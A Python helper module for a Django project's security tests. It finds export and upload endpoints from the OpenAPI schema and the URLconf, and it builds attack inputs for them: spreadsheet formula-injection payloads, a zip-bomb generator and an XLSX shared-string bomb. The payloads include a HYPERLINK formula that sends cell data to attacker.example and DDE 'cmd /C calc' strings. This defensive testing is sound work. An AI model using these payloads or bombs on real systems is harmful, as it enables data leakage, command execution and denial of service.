"""What the attacker's suite (tests/security/test_attacks_*.py) sends, and where: the payloads, and the endpoints
found from the OpenAPI schema and the URLconf, so that a new export or upload endpoint is attacked without anyone
remembering to add it."""
import inspect
import io
import zipfile
from functools import cache

from django.urls import URLPattern, URLResolver, get_resolver

# Text a spreadsheet program would run: the classic payloads, and the ones that hide the sign behind whitespace,
# zero-width or full-width characters (issue 23.6).
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",  # FULLWIDTH EQUALS SIGN
]


def starts_a_formula(text: str) -> bool:
    """Would Excel or LibreOffice take this cell for a formula? (Written apart from the code it checks.)"""
    if not isinstance(text, str) or not text:
        return False
    if text[0] in "\t\r\n":
        return True
    visible = text.lstrip(" \t\r\n\u00a0\u200b\ufeff\u2000\u2001\u2002\u2003\u202f")
    return visible[:1] in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@cache
def openapi_schema() -> dict:
    from drf_spectacular.generators import SchemaGenerator

    return SchemaGenerator().get_schema(request=None, public=True)


def operations():
    for path, methods in openapi_schema()["paths"].items():
        for method, operation in methods.items():
            if isinstance(operation, dict) and "responses" in operation:
                yield path, method, operation


def _has_file_field(schema: dict) -> bool:
    if "$ref" in schema:
        schema = openapi_schema()["components"]["schemas"][schema["$ref"].rsplit("/", 1)[-1]]
    def binary(p: dict) -> bool:  # a file, or a list of files (`file` repeated)
        return p.get("format") == "binary" or (p.get("items") or {}).get("format") == "binary"

    return any(binary(p) for p in (schema.get("properties") or {}).values())


def api_export_paths() -> list[str]:
    """Every GET of the API that answers a spreadsheet (CSV or XLSX) or a download named `export`."""
    found = []
    for path, method, operation in operations():
        types = {t for r in operation["responses"].values() for t in (r.get("content") or {})}
        if method == "get" and (any("csv" in t or "spreadsheet" in t for t in types) or path.rstrip("/").endswith("/export")):
            found.append(path)
    return sorted(set(found))


def api_upload_operations() -> list[tuple[str, str]]:
    """Every API operation that takes a file."""
    found = []
    for path, method, operation in operations():
        content = (operation.get("requestBody") or {}).get("content") or {}
        if any(_has_file_field(body.get("schema") or {}) for media, body in content.items() if media.startswith("multipart/")):
            found.append((path, method))
    return sorted(found)


def api_write_operations() -> list[tuple[str, str, dict]]:
    return sorted(((p, m, o) for p, m, o in operations() if m in ("post", "put", "patch")), key=lambda x: (x[0], x[1]))


def _walk(patterns, prefix=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _walk(pattern.url_patterns, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern):
            yield prefix + str(pattern.pattern), pattern


def _functions(view):
    """The view and every function its decorators wrap (through __wrapped__ or the decorator's closure)."""
    seen, todo = [], [view]
    while todo:
        function = todo.pop()
        if not callable(function) or function in seen or not hasattr(function, "__code__"):
            continue
        seen.append(function)
        todo.append(getattr(function, "__wrapped__", None))
        todo.extend(cell.cell_contents for cell in (function.__closure__ or ()) if callable(getattr(cell, "cell_contents", None)))
    return seen


def web_upload_routes() -> list[str]:
    """Every page (outside the API and Django's admin) whose view reads uploaded files: found in the URLconf by what
    the view does."""
    found = []
    for route, pattern in _walk(get_resolver().url_patterns):
        if route.startswith(("api/", "admin/")):
            continue
        for function in _functions(pattern.callback):
            try:
                source = inspect.getsource(function)
            except (OSError, TypeError):
                continue
            if "request.FILES" in source:
                found.append(route)
    return sorted(set(found))


def zip_bomb(member: str = "mimetype", expanded_mb: int = 100, extra: dict | None = None) -> bytes:
    """A small ZIP one of whose members inflates to `expanded_mb` MB of zeros (written in a stream: never held whole)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, text in (extra or {}).items():
            archive.writestr(name, text)
        with archive.open(member, "w", force_zip64=True) as out:
            block = b"\0" * (1024 * 1024)
            for _ in range(expanded_mb):
                out.write(block)
    return buffer.getvalue()


def xlsx(sheet_xml: str, *, shared_strings: int = 0) -> bytes:
    """A minimal XLSX with this worksheet XML, and optionally a shared-string table of `shared_strings` strings (issue
    23.7: 2 million of them in 82 KB took 17 s of CPU), written in a stream."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{sheet_xml}</worksheet>')
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as out:
            count = shared_strings
            out.write(f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="{count}" uniqueCount="{count}">'.encode())
            chunk = b"<si><t>a</t></si>" * 10_000
            for _ in range(count // 10_000):
                out.write(chunk)
            out.write(b"</sst>")
    return buffer.getvalue()


def xlsx_with_shared_strings(count: int) -> bytes:
    return xlsx('<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData>', shared_strings=count)


def inline_row(number: int, values: list[str]) -> str:
    from openpyxl.utils import get_column_letter

    cells = "".join(f'<c r="{get_column_letter(i)}{number}" t="inlineStr"><is><t>{v}</t></is></c>' for i, v in enumerate(values, start=1))
    return f'<row r="{number}">{cells}</row>'



CONTENT_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
WORKBOOK = (
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
    "</Relationships>"
)
